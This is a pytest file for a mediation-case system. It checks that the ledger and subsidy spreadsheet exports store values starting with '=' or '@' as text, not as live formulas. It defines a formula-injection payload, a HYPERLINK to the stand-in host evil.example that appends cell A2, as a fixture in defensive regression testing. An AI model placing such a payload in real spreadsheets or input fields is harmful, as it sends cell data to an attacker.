"""The mediation workbooks render formula-looking values as text (issue 25, acceptance 4).

The audit found a case title ``=HYPERLINK("http://…"&A2,…)`` written into the ledger as a
live formula. Both workbooks of the module go through ``core.api.Spreadsheet`` now.
"""

from __future__ import annotations

from datetime import date
from io import BytesIO

from mediation.models import MediationCase
from mediation.services import proceedings
from mediation_support import accepted_case, committee, export_ledger, fresh, mediator
from openpyxl import load_workbook

from core.db import session_scope
from tests.conftest import _signed_in_client

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def _text_cells(content: bytes) -> dict[str, str]:
    """Every cell holding one of our values, by value: its data type."""
    sheet = load_workbook(BytesIO(content)).active
    return {
        str(c.value): c.data_type for row in sheet.iter_rows() for c in row if c.value is not None
    }


def test_the_ledger_and_the_subsidy_sheet_keep_formulas_as_text(platform, org_tree) -> None:
    day = date(2026, 10, 12)
    with session_scope(platform.engine) as session:
        c = committee(session, org_tree.village_a, short_name="前进")
        m = mediator(session, c.id, "@SUM(A1:A9)")
        row = accepted_case(
            session, c.id, m.id, today=day, registered_on=day.isoformat(), title=EVIL
        )
        row = fresh(session, MediationCase, row.id)
        proceedings.record_agreement(
            session,
            row.id,
            {
                "form": "oral",
                "concluded_on": day.isoformat(),
                "terms": "和解",
                "performance_method": "当场",
                "performed_now": "1",
                "difficulty": "simple",
            },
            expected_version=row.version,
            today=day,
        )
        committee_id = c.id
    for staff in _signed_in_client(platform, "suozhang", {"station_head": org_tree.station_a}):
        cells = _text_cells(export_ledger(staff, {}))
        assert cells["'" + EVIL] == "s"
        assert not any(v.startswith("=") for v in cells)  # no live formula anywhere
        sheet = staff.get(f"/m/mediation/subsidies.xlsx?committee_id={committee_id}&month=2026-10")
        assert sheet.status_code == 200
        cells = _text_cells(sheet.content)
        assert cells["'@SUM(A1:A9)"] == "s"
        assert not any(v.startswith(("=", "@")) for v in cells)
